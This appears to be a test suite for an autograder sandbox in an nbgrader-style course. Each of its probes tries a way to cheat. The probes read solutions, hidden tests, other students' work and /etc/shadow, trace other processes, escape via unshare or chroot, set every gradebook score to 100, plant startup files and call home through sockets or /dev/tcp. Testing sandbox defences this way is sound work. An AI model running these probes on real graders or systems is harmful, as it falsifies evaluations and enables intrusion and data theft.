"""Code that looks for what it should not see, or writes where it should not."""

from attacks.kit import answers, cheat, guarded

# Says so where it could read a file that holds these words; then takes the answers out of it.
READ = """
def read(path, *words):
    try:
        with open(path, "rb") as file: text = file.read(10**7)
    except OSError: return
    if all(word.encode() in text for word in words): reached(path)
def look(folder, *words, most=2000):
    for place, folders, files in os.walk(folder):
        for name in files:
            most -= 1
            if most < 0: return
            read(os.path.join(place, name), *words)
"""


def reading(name, code, **expected):
    cheat(name, f"{guarded(READ)}\n{code}", **expected)


reading(
    "reads-the-solutions",
    """
for path in ("../../../source", "../../source", "@COURSE@/source", "/source"):
    look(path, "BEGIN " + "SOLUTION")
""",
)
reading(
    "reads-the-hidden-tests",
    """
for path in ("..", "../..", "../../..", "@COURSE@", "/tmp", "/home", "/mnt", "/opt", "/srv"):
    look(path, "expected_" + "share = np")
""",
)
reading(
    "looks-for-a-solution-in-every-folder",
    """
word, end = b"return counts / counts" + b".sum()", time.monotonic() + 2
for root in ("/course", "/tmp", "/dev/shm", "/etc", "/usr/local", "/"):
    for place, folders, files in os.walk(root):
        if time.monotonic() > end: break
        for name in files:
            try:
                with open(os.path.join(place, name), "rb") as file:
                    if word in file.read(10**6): reached(place, name)
            except OSError: pass
""",
)
reading(
    "looks-for-a-solution-in-live-objects",
    """
import gc, types
word = "counts / counts" + ".sum()"
gc.unfreeze()
def texts(thing):
    if isinstance(thing, dict): yield from list(thing.values())
    elif isinstance(thing, (list, tuple, set)): yield from list(thing)
    elif isinstance(thing, types.FunctionType): yield from thing.__code__.co_consts
    elif hasattr(type(thing), "__dict__"): yield from list(getattr(thing, "__dict__", {}).values())
for thing in gc.get_objects():
    try:
        for text in texts(thing):
            if isinstance(text, bytes): text = text.decode("latin-1")
            if text is word or not isinstance(text, str): continue
            if word in text: reached(type(thing), text[:80])
    except Exception: pass
    if isinstance(thing, types.FunctionType) and thing.__name__ == "share":
        if thing.__globals__ is not globals(): reached("a function of another's")
""",
)
reading(
    "reads-the-gradebook",
    """
for path in ("../../../gradebook.db", "../../gradebook.db", "@COURSE@/gradebook.db"):
    read(path, "SQLite")
""",
)
reading(
    "reads-the-settings",
    """
for path in ("../../../nbgrader_config.py", "@COURSE@/nbgrader_config.py"):
    read(path, "get_config")
""",
)
reading(
    "reads-other-students",
    """
for path in ("../..", "../../..", "@COURSE@/submitted", "@COURSE@/autograded", "@COURSE@/feedback"):
    look(path, "two hares" + " never")
""",
)
reading("reads-its-home", 'look("@HOME@"); look(os.path.expanduser("~"), "SENTI" + "NEL")')
reading("reads-the-course-itself", 'look("@REPO@/solutions"); look("@REPO@/sources")')
reading(
    "reads-the-working-folder-of-the-grader",
    """
for number in os.listdir("/proc"):
    if number.isdigit():
        for link in ("cwd", "root", "exe"):
            for path in ("source/tiny/tiny.ipynb", "gradebook.db", "@COURSE@/gradebook.db"):
                try: open(f"/proc/{number}/{link}/{path}").read(1); reached(number, link, path)
                except OSError: pass
""",
)
reading(
    "reads-the-files-of-other-processes",
    """
for number in os.listdir("/proc"):
    if number.isdigit():
        for kind in ("environ", "cmdline", "mem", "maps"):
            read(f"/proc/{number}/{kind}", "@MARK@-in-the-environment")
        try: names = os.listdir(f"/proc/{number}/fd")
        except OSError: names = []
        for name in names:
            try: target = os.readlink(f"/proc/{number}/fd/{name}")
            except OSError: continue
            if target.endswith((".ipynb", ".db", ".csv")): reached(target)
""",
)
reading(
    "reads-the-environment",
    'if "@MARK@-in-the-environment" in str(dict(os.environ)): reached("the environment")',
)
reading(
    "sees-other-processes",
    """
for number in os.listdir("/proc"):
    if number.isdigit():
        try: line = open(f"/proc/{number}/cmdline").read()
        except OSError: continue
        if "pytest" in line or "@COURSE@" in line: reached("process", number, line[:80])
""",
)
reading(
    "traces-other-processes",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in range(1, 400):
    if number != os.getpid() and libc.ptrace(16, number, 0, 0) == 0:
        time.sleep(0.05)
        memory = open(f"/proc/{number}/mem", "rb", 0)
        for line in open(f"/proc/{number}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                memory.seek(start)
                if b"expected_" + b"share = np" in memory.read(min(end - start, 10**7)):
                    reached("the tests in the memory of", number)
            except (OSError, ValueError, OverflowError): pass
        libc.ptrace(17, number, 0, 0)
""",
)
reading(
    "leaves-the-sandbox-by-mounting",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000 | 0x20000, 0x20000, 0x10000000):
    libc.unshare(flags)
os.makedirs("m", exist_ok=True)
for kind in (b"proc", b"tmpfs", b"sysfs", b"overlay"):
    libc.mount(b"none", b"m", kind, 0, None)
for number in range(1, 50):
    for space in ("mnt", "pid", "net", "user"):
        try: file = os.open(f"/proc/{number}/ns/{space}", os.O_RDONLY)
        except OSError: continue
        libc.setns(file, 0)
read("@COURSE@/gradebook.db", "SQLite")
look("@COURSE@/source", "BEGIN " + "SOLUTION")
""",
)
reading(
    "leaves-the-sandbox-by-chroot",
    """
try:
    os.mkdir("c"); root = os.open("/", os.O_RDONLY); os.chroot("c"); os.fchdir(root)
    for _ in range(50): os.chdir("..")
    os.chroot(".")
except OSError: pass
read("@COURSE@/gradebook.db", "SQLite")
""",
)
reading(
    "becomes-root",
    """
for number in (0, 1):
    try: os.setuid(number)
    except OSError: pass
import subprocess
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["mount", "--bind", "/", "."]):
    try: subprocess.run(command, stdin=subprocess.DEVNULL, timeout=2)
    except (OSError, subprocess.TimeoutExpired): pass
read("/etc/shadow", "root:")
""",
)
reading(
    "reads-devices",
    """
for name in ("mem", "kmem", "port", "sda", "vda", "nvme0n1", "kmsg", "loop0"):
    try: os.close(os.open(f"/dev/{name}", os.O_RDONLY)); reached(name)
    except OSError: pass
""",
)
reading(
    "runs-the-settings",
    """
get_ipython().run_line_magic("run", "@COURSE@/nbgrader_config.py")
""",
)
cheat(
    "reads-by-shell",
    "!cat @COURSE@/source/tiny/tiny.ipynb ../../../source/tiny/tiny.ipynb | grep -c SOLUTION "
    "| sed 's/^[1-9].*/REA''CHED/'",
)

# ---------------------------------------------------------------- writing


def writing(name, *paths):
    """Try to write to each path, in Python and by the shell."""
    cheat(
        name,
        guarded(
            f"""
            for path in {paths!r}:
                for mode in ("w", "a", "r+"):
                    try:
                        with open(path, mode) as file: file.write("@MARK@")
                    except (OSError, UnicodeError): pass
                os.system(f"echo @MARK@ > '{{path}}' 2>/dev/null")
                try: os.remove(path)
                except OSError: pass
            """
        ),
    )


writing(
    "writes-the-gradebook",
    "@COURSE@/gradebook.db",
    "@COURSE@/gradebook.db-journal",
    "../../../gradebook.db",
    "gradebook.db",
)
writing(
    "writes-the-solutions",
    "@COURSE@/source/tiny/tiny.ipynb",
    "@COURSE@/release/tiny/tiny.ipynb",
    "../../../source/tiny/tiny.ipynb",
)
writing(
    "writes-the-settings",
    "@COURSE@/nbgrader_config.py",
    "nbgrader_config.py",
    "@COURSE@/.nbgrader.log",
)
writing(
    "writes-other-students",
    "@COURSE@/submitted/000-honest/tiny/tiny.ipynb",
    "@COURSE@/autograded/000-honest/tiny/tiny.ipynb",
    "@COURSE@/feedback/000-honest/tiny/tiny.html",
    "@COURSE@/reports/tiny.csv",
    "@COURSE@/reports/tiny.html",
)
writing(
    "writes-its-home",
    "@HOME@/sentinel.txt",
    "@HOME@/@MARK@",
    "@HOME@/.bashrc",
    "@HOME@/.ipython/profile_default/startup/00.py",
    "@HOME@/.config/matplotlib/matplotlibrc",
)
writing("writes-temporary-files", "/tmp/@MARK@", "/var/tmp/@MARK@", "/dev/shm/@MARK@", "/@MARK@")
writing(
    "writes-the-package",
    "@REPO@/lincourse/@MARK@",
    "@REPO@/@MARK@",
    "@SITE@/@MARK@.pth",
    "@SITE@/sitecustomize.py",
)
writing("writes-the-system", "/etc/@MARK@", "/usr/@MARK@", "/usr/local/bin/@MARK@", "/opt/@MARK@")
cheat(
    "writes-the-gradebook-as-a-database",
    guarded(
        """
        import sqlite3
        for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
            try:
                book = sqlite3.connect(path, timeout=1)
                book.execute("update grade set auto_score = 100")
                book.commit()
                reached("the gradebook")
            except sqlite3.Error: pass
        """
    ),
)
cheat(
    "changes-the-submission",
    guarded(
        """
        import glob
        for path in glob.glob("**", recursive=True) + ["tiny.ipynb", "../tiny/tiny.ipynb"]:
            try: open(path, "w").write("{}")
            except OSError: pass
        """
    ),
)
cheat(
    "changes-its-bytecode",
    guarded(
        """
        import lincourse, numpy, pathlib
        for module in (lincourse, numpy):
            for path in pathlib.Path(module.__file__).parent.rglob("*.pyc"):
                try: path.write_bytes(b""); reached(path)
                except OSError: break
        """
    ),
)

# ---------------------------------------------------------------- the network

cheat(
    "calls-home",
    guarded(
        """
        import socket, urllib.request
        for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "@HOST@"):
            try:
                link = socket.create_connection((host, @PORT@), timeout=1)
                link.send(b"hello"); reached(host)
            except OSError: pass
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                link = socket.socket(socket.AF_UNIX, kind)
                link.connect("\\0@MARK@"); link.send(b"hello"); reached("an abstract socket")
            except OSError: pass
        try: link = socket.socket(socket.AF_UNIX); link.connect("@SOCKET@"); reached("a socket")
        except OSError: pass
        try:
            link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            link.sendto(b"hello", ("127.0.0.1", @PORT@))
        except OSError: pass
        """
    ),
)
cheat("calls-home-by-shell", "!timeout 1 bash -c 'echo hello > /dev/tcp/127.0.0.1/@PORT@'")
answers(
    "calls-home-in-a-function",
    mean="""
    import urllib.request
    def mean(values):
        return float(urllib.request.urlopen("http://127.0.0.1:@PORT@/" + str(values)).read())
    """,
)
cheat(
    "sees-the-network",
    guarded(
        """
        import socket
        names = [name for _, name in socket.if_nameindex()]
        if set(names) - {"lo"}: reached(names)
        """
    ),
)
